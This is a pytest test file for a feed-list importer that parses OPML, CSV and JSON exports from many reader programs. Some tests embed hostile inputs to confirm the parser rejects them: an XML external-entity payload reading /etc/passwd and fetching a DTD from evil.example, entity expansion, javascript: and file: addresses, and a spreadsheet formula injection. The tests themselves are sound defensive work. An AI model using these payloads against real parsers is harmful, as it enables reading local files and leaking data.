"""Lists of outlets in the forms that other programs export, and in those that they complain about."""

import sys
import time
from contextlib import suppress

import pytest

from presswatch.config import Source
from presswatch.errors import UsageError
from presswatch.sources import delimited, opml
from presswatch.sources.entry import address
from presswatch.sources.source_list import LARGEST, SourceList, read


def listed(text: str, encoding: str = "utf-8") -> SourceList:
    return read(text.encode(encoding))


def told(found: SourceList) -> list[tuple[tuple[str, ...], str, tuple[str, ...]]]:
    return [(one.addresses, one.title, one.tags) for one in found.entries]


GAZETTE, HERALD = "https://gazette.example/feed", "https://herald.example/rss"
SITE = "https://gazette.example/"
OPML = f"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0"><head><title>mine</title></head><body>
<outline text="Press" title="Press">
  <outline type="rss" text="Gazette" title="The Gazette" xmlUrl="{GAZETTE}" htmlUrl="{SITE}"/>
  <outline text="Local"><outline text="Herald" xmlUrl="{HERALD}"></outline></outline>
</outline>
<outline text="Alone" xmlUrl="https://alone.example/feed"/>
</body></opml>"""


def test_opml_with_folders_in_folders() -> None:
    found = listed(OPML)
    assert found.form == "OPML"
    assert told(found) == [
        ((GAZETTE, SITE), "The Gazette", ("Press",)),
        ((HERALD,), "Herald", ("Press", "Local")),
        (("https://alone.example/feed",), "Alone", ()),
    ]
    assert [one.line for one in found.entries] == [4, 5, 7]


# Each as a program exported it or was given it, by a public report of a problem.
SHAPES: dict[str, tuple[str, list[tuple[tuple[str, ...], str, tuple[str, ...]]]]] = {
    "a bare & in an attribute (Pocket Casts, FeedReader)": (
        f'<opml><body><outline text="Left, Right &amp; Center" xmlUrl="{GAZETTE}?a=1&b=2"/></body></opml>',
        [((f"{GAZETTE}?a=1&b=2",), "Left, Right & Center", ())],
    ),
    "quotes in a title (goread)": (
        f'<opml><body><outline text="fubar "baz"" title="fubar "baz"" xmlUrl="{GAZETTE}"/>'
        f'<outline text="5" screens" xmlUrl="{HERALD}"/></body></opml>',
        [((GAZETTE,), "fubar", ()), ((HERALD,), "5", ())],
    ),
    "no version, no text (Alligator, The Old Reader)": (
        f'<opml><head/><body version="1.0"><outline xmlUrl="{GAZETTE}" title="Tea Leaves"/></body></opml>',
        [((GAZETTE,), "Tea Leaves", ())],
    ),
    "no type, the address for a title (miniflux)": (
        f'<opml version="2.0"><body><outline text="All"><outline title="{GAZETTE}" text="{GAZETTE}" '
        f'xmlUrl="{GAZETTE}" htmlUrl="{GAZETTE}"></outline></outline></body></opml>',
        [((GAZETTE,), "", ())],
    ),
    "an empty text beside a title (Read You)": (
        f'<opml><body><outline htmlUrl="{SITE}" type="rss" text="" title="News" xmlUrl="{GAZETTE}" />',
        [((GAZETTE, SITE), "News", ())],
    ),
    "folders with a title alone, a namespace (Thunderbird)": (
        '<opml version="1.0" xmlns:fz="urn:forumzilla:"><body><outline title="Art"><outline title="Zone">'
        f'<outline type="rss" title="Z" text="Z" fz:options="{{&quot;a&quot;:2}}" xmlUrl="{GAZETTE}"/>'
        "</outline></outline></body></opml>",
        [((GAZETTE,), "Z", ("Art", "Zone"))],
    ),
    "a page instead of a feed (FreshRSS)": (
        '<opml xmlns:frss="https://freshrss.org/opml" version="2.0"><body><outline text="Uncategorized">'
        f'<outline text="Mine" type="HTML+XPath" xmlUrl="{SITE}news" frss:xPathItem="//div[@a=&quot;n&quot;]"'
        ' frss:priority="important"/></outline></body></opml>',
        [((f"{SITE}news",), "Mine", ())],
    ),
    "blanks before the XML declaration (Feeder)": (
        '\n  <?xml version="1.0"?>\n<opml version="1.1"><body>'
        f'<outline title="Loper" xmlUrl="{GAZETTE}?feed=rss2"/></body></opml>',
        [((f"{GAZETTE}?feed=rss2",), "Loper", ())],
    ),
    "the same feed in two folders (Feedly, NewsBlur)": (
        f'<opml><body><outline text="A"><outline text="G" xmlUrl="{GAZETTE}"/></outline>'
        f'<outline text="B"><outline text="G" xmlUrl="{GAZETTE}/"/></outline></body></opml>',
        [((GAZETTE,), "G", ("A", "B"))],
    ),
    "feed: addresses (Safari, Inoreader)": (
        '<opml><body><outline text="G" xmlUrl="feed://gazette.example/feed"/>'
        '<outline text="H" xmlUrl="feed:https://herald.example/rss"/></body></opml>',
        [(("http://gazette.example/feed",), "G", ()), ((HERALD,), "H", ())],
    ),
    "categories as an attribute (OPML 2.0)": (
        f'<opml><body><outline text="G" xmlUrl="{GAZETTE}" category="/News/Local,ferries"/></body></opml>',
        [((GAZETTE,), "G", ("News", "Local", "ferries"))],
    ),
    "no feed but a site, other elements in the body (Handy News Reader, tt-rss)": (
        f'<opml><body><prefs x="1"/><!-- <outline xmlUrl="{HERALD}"/> --><outline text="G" htmlUrl="{SITE}"/>'
        "</body></opml>",
        [((SITE,), "G", ())],
    ),
    "capitals, single quotes, entities of HTML": (
        f"<OPML><BODY><OUTLINE TEXT='K&uuml;ste&#8212;Blatt' XMLURL='{GAZETTE}'/></BODY></OPML>",
        [((GAZETTE,), "Küste—Blatt", ())],
    ),
    "a table with a header": (
        f'Name,Feed URL,Website,Tags\nGazette,{GAZETTE},{SITE},"press, local"\n,{HERALD},,\n',
        [((GAZETTE, SITE), "Gazette", ("press", "local")), ((HERALD,), "", ())],
    ),
    "a table without one": (
        f"The Gazette,{SITE},uk\nHerald,{HERALD},fr\n",
        [((SITE,), "The Gazette", ("uk",)), ((HERALD,), "Herald", ("fr",))],
    ),
    "Excel's separator line": (
        "sep=;\r\nTitel;Adresse\r\nKüste;gazette.example\r\n",
        [((SITE,), "Küste", ())],
    ),
    "tabs": (f"title\turl\nGazette\t{SITE}\n", [((SITE,), "Gazette", ())]),
    "addresses with comments, tags and without a scheme": (
        f'# press\n\n{SITE} press, local\n// no\nherald.example\n- {GAZETTE}  # mine\n"query:all:x"\n',
        [((SITE,), "", ("press", "local")), (("https://herald.example/",), "", ()), ((GAZETTE,), "", ())],
    ),
    "newsboat": (f'{GAZETTE} "local" "~The Gazette"\n', [((GAZETTE,), "The Gazette", ("local",))]),
    "miniflux's JSON": (
        f'[{{"id": 1, "feed_url": "{GAZETTE}", "site_url": "{SITE}", "title": "G", '
        '"category": {"title": "News"}}]',
        [((GAZETTE, SITE), "G", ("News",))],
    ),
    "NewsBlur's JSON": (
        f'{{"feeds": {{"7": {{"feed_address": "{GAZETTE}", "feed_link": "{SITE}", "feed_title": "G"}}}}}}',
        [((GAZETTE, SITE), "G", ())],
    ),
    "changedetection.io's watches": (
        f'{{"watching": {{"u1": {{"url": "{SITE}", "title": null, "tags": ["t1"]}}}}, '
        '"settings": {"application": {"tags": {"t1": {"title": "Press"}}}}}',
        [((SITE,), "", ("Press",))],
    ),
    "changedetection.io's list of addresses": (
        f'["{SITE}", "{HERALD}"]',
        [((SITE,), "", ()), ((HERALD,), "", ())],
    ),
}


@pytest.mark.parametrize("shape", SHAPES)
def test_what_other_programs_export(shape: str) -> None:
    text, expected = SHAPES[shape]
    assert told(listed(text)) == expected


def test_what_is_switched_off_there_is_off_here() -> None:
    paused = listed(
        f'{{"watching": {{"a": {{"url": "{SITE}", "paused": true}}, "b": {{"url": "{HERALD}"}}}}}}'
    )
    assert [one.paused for one in paused.entries] == [True, False]
    assert listed(f'[{{"feed_url": "{GAZETTE}", "disabled": true}}]').entries[0].paused


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252"]
)
def test_any_encoding_whatever_the_file_says_of_itself(encoding: str) -> None:
    for said in ("UTF-8", "ISO-8859-1", "none-such"):
        text = f'<?xml version="1.0" encoding="{said}"?><outline text="Küstenblatt" xmlUrl="{GAZETTE}"/>'
        assert listed(text, encoding).entries[0].title == "Küstenblatt"
    table = listed(f"Name;URL\nKüste;{SITE}\n", encoding)
    assert told(table) == [((SITE,), "Küste", ())]


def test_a_declared_encoding_is_believed_where_the_bytes_are_no_utf8() -> None:
    text = f'<?xml version="1.0" encoding="windows-1251"?><outline text="Вести" xmlUrl="{GAZETTE}"/>'
    assert listed(text, "cp1251").entries[0].title == "Вести"


def test_what_is_left_out_is_said_with_its_line() -> None:
    found = listed(f"{SITE}\nhttp://gazette.example\nmailto:desk@gazette.example\njust words\n")
    assert told(found) == [((SITE,), "", ())]
    assert [(one.line, one.why) for one in found.skipped] == [
        (2, "stands in line 1 already"),
        (3, "is no address of a page: one begins with http:// or https://"),
        (4, "does not begin with an address"),
    ]
    folder = listed(f'<opml><outline text="Empty"/><outline text="G" xmlUrl="{GAZETTE}"/></opml>')
    assert [(one.what, one.why) for one in folder.skipped] == [("Empty", "has no address")]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "there is no address in it"),
        (b"hello", "there is no address in it"),
        (b"PK\x03\x04 feeds.opml", "ZIP"),
        (b"\x1f\x8b\x08", "gzip"),
        (b"<rss version='2.0'><channel/></rss>", "it is a feed"),
        (b"<!doctype html><title>x</title>", "no OPML"),
        (b"<opml version='1.0'><body></body></opml>", "there is no address in it"),
        (b'{"feeds": [', "begins like JSON"),
        (b"[" * 100_000, "JSON"),
        (bytes(range(256)) * 100, "no text"),
        (b"x" * (LARGEST + 1), "10 MiB"),
        (b"\n".join(b"https://%d.example/" % number for number in range(2001)), "at most 2000"),
    ],
)
def test_what_is_no_list_is_said_in_words(content: bytes, said: str) -> None:
    with pytest.raises(UsageError, match=said):
        read(content)


def test_entities_are_never_declared_nor_fetched() -> None:
    text = (
        '<!DOCTYPE o [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">'
        '<!ENTITY % r SYSTEM "http://evil.example/x.dtd"> %r;]>'
        f'<opml><outline text="&b;&x;" xmlUrl="{GAZETTE}"/></opml>'
    )
    assert told(listed(text)) == [((GAZETTE,), "&b;&x;", ())]


@pytest.mark.parametrize(
    "evil",
    [
        b'<outline "',
        b"<!--<outline",
        b'<outline a="',
        b"<outline a=",
        b'"',
        b"a,",
        b"https://a.example/,",
        b"\t",
        b"&",
    ],
)
def test_what_means_harm_takes_no_longer_than_its_length(evil: bytes) -> None:
    began = time.process_time()
    with suppress(UsageError):
        read(evil * ((1 << 20) // len(evil)))
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("news.example", "https://news.example/"),
        ("news.example:8080/x?y=http://z", "https://news.example:8080/x?y=http://z"),
        ("http://user:secret@news.example/", None),
        ("javascript:alert(1)", None),
        ("/feed", None),
        ("file:///etc/passwd", None),
        ("http://" + "x" * 3000 + ".example/", None),
        ("https://Küste.example/a b", "https://xn--kste-0ra.example/a%20b"),
    ],
)
def test_which_address_is_meant(written: str, meant: str | None) -> None:
    assert address(written) == meant


SOURCES = (
    Source(
        id="gazette",
        name='The "Gazette" & Co <x>',
        start=(GAZETTE, SITE),
        language="en",
        tags=("Press", "uk"),
    ),
    Source(id="herald", name="=HYPERLINK(1)", start=(HERALD,), enabled=False),
)


def test_what_is_exported_is_read_again() -> None:
    again = listed(opml.written(SOURCES, "presswatch"))
    assert [(one.address, one.title, one.tags) for one in again.entries] == [
        (HERALD, "=HYPERLINK(1)", ()),
        (GAZETTE, 'The "Gazette" & Co <x>', ("Press", "uk")),
        (SITE, 'The "Gazette" & Co <x>', ("Press", "uk")),
    ]
    table = delimited.written(SOURCES)
    assert "'=HYPERLINK(1)" in table, "no formula for a spreadsheet"
    assert [(one.address, one.title, one.tags) for one in listed(table).entries] == [
        (GAZETTE, 'The "Gazette" & Co <x>', ("Press", "uk")),
        (SITE, 'The "Gazette" & Co <x>', ("Press", "uk")),
        (HERALD, "=HYPERLINK(1)", ()),
    ]


def calls(text: str) -> int:
    """How many functions are called to read a list."""
    count = 0

    def counted(_frame: object, event: str, _given: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    sys.setprofile(counted)
    try:
        list(opml.items(text))
    finally:
        sys.setprofile(None)
    return count


def test_outlines_that_are_never_closed_cost_no_more_each_the_more_there_are() -> None:
    def unclosed(count: int) -> str:
        return "".join(f'<outline text="F{one}"><outline xmlUrl="{SITE}">' for one in range(count))

    calls(unclosed(1))  # What is called once in a process.
    assert calls(unclosed(800)) < 2.2 * calls(unclosed(400))


def test_the_innermost_folders_are_tags_of_an_outlet() -> None:
    nested = "".join(f'<outline text="F{one}">' for one in range(2000))
    [outlet] = listed(f'<opml>{nested}<outline text="G" xmlUrl="{GAZETTE}"/></opml>').entries
    assert outlet.tags[0] == "F1950"
